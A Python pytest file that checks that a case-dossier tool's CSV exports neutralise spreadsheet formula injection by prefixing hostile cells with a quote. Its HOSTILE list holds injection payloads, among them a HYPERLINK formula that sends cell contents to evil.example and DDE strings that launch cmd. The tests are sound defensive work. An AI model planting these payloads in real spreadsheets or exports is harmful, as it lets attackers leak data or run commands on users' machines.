"""Finding 2: a collector's `=HYPERLINK(...)` (or a cell starting with +, -, @, tab, CR) is text in every CSV we
write, and the text is kept: drop the one leading quote and it is the original."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from datetime import datetime
from pathlib import Path

import pytest

from tests.fixtures.formats import CST, Sms, write_sms_backup
from xieshang.core.spreadsheet import csv_cell

from .conftest import E1_CASE, cli

pytestmark = [pytest.mark.django_db(transaction=True)]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+86 1069 还款",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _unquoted(cell: str) -> str:
    assert cell.startswith("'"), cell
    return cell[1:]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_becomes_text_and_keeps_its_text(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str) and _unquoted(cell) == text


def test_plain_cells_and_numbers_are_left_alone() -> None:
    assert csv_cell("【360借条】请尽快还款") == "【360借条】请尽快还款"
    assert csv_cell(-12) == -12 and csv_cell("2024-03-05T09:00:00+08:00") == "2024-03-05T09:00:00+08:00"


def test_timeline_and_findings_csv_of_the_dossier_hold_no_formula(tmp_path: Path) -> None:
    from xieshang.cases.models import Case
    from xieshang.documents import stored

    assert cli("case", "import", str(E1_CASE), "--name", "e1")[0] == 0
    messages = [
        Sms("1069055500", text, datetime(2024, 3, 5, 9, n, tzinfo=CST)) for n, text in enumerate(HOSTILE)
    ]
    sms = write_sms_backup(tmp_path / "sms-20240305.xml", messages)
    assert cli("import", str(sms), "--case", "e1")[0] == 0
    out = tmp_path / "dossier.zip"
    status, _, err = cli("dossier", "e1", "-o", str(out))
    assert status == 0, err
    with zipfile.ZipFile(out) as zf:
        timeline = list(csv.reader(io.StringIO(zf.read("timeline.csv").decode("utf-8-sig"))))
    summary = timeline[0].index("内容")
    cells = [row[summary] for row in timeline[1:]]
    for text in HOSTILE:
        # the record's summary in the table: the text (however it is trimmed) behind one leading quote
        hits = [c for c in cells if c.startswith("'") and text.strip()[:6] in c]
        assert hits, (text, cells)
    for row in timeline[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row

    case = Case.objects.get(name="e1")
    refs = stored._refs(stored._files(case))
    base = stored.finding_facts(case, refs) or []
    finding = stored.FindingFacts(
        rule="threat", severity="high", confidence="quoted", source="x", when=None, detail=HOSTILE[0]
    )
    found = io.BytesIO()
    stored.write_findings_csv([*base, dataclasses.replace(finding, lender="=cmd|'/C calc'!A0")], found)
    rows = list(csv.reader(io.StringIO(found.getvalue().decode("utf-8-sig"))))
    last = rows[-1]
    assert _unquoted(last[2]) == HOSTILE[0] and _unquoted(last[6]) == "=cmd|'/C calc'!A0"
